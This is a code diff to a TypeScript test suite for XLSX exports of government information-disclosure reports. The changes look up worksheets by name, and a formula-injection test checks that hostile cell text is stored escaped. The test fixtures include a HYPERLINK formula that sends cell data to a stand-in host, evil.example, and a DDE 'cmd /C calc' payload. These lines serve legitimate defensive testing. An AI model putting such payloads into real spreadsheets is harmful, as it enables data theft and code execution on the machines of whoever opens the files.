@@ -36,11 +36,12 @@ describe('exports', () => {
   it('writes an XLSX that reads back with the same numbers', async () => {
     const book = new ExcelJS.Workbook();
     await book.xlsx.load(new Uint8Array(await toXlsx(reports)).buffer as ArrayBuffer);
-    expect(book.worksheets.map((w) => w.name)).toEqual(['主动公开政府信息情况', '收到和处理政府信息公开申请情况', '政府信息公开行政复议、行政诉讼情况']);
-    const apps = book.worksheets[1];
+    // One sheet per report as printed (statutory-sheet.test.ts), then the flat sheets.
+    expect(book.worksheets.map((w) => w.name).slice(-3)).toEqual(['主动公开政府信息情况', '收到和处理政府信息公开申请情况', '政府信息公开行政复议、行政诉讼情况']);
+    const apps = book.getWorksheet('收到和处理政府信息公开申请情况')!;
     expect(apps.getRow(3).getCell(1).value).toBe('重庆市荣昌区人民政府');
     expect(apps.getRow(3).getCell(3 + 23 * 7 + 6).value).toBe(57);
-    expect(book.worksheets[0].getRow(3).getCell(12).value).toBe(4618.24);
+    expect(book.getWorksheet('主动公开政府信息情况')!.getRow(3).getCell(12).value).toBe(4618.24);
   });
 
   describe('formula injection (OWASP CSV injection, issue 11)', () => {
@@ -64,7 +65,7 @@ describe('exports', () => {
     it('writes the same text into XLSX as inert strings, read back with exceljs', async () => {
       const book = new ExcelJS.Workbook();
       await book.xlsx.load(new Uint8Array(await toXlsx([hostile, typedOnly])).buffer as ArrayBuffer);
-      const active = book.worksheets[0];
+      const active = book.getWorksheet('主动公开政府信息情况')!;
       expect(active.getRow(2).getCell(1).value).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点击")');
       expect(active.getRow(2).getCell(9).value).toBe("'+cmd|' /C calc'!A0");
       expect(active.getRow(3).getCell(1).value).toBe("'@SUM(1+1)");
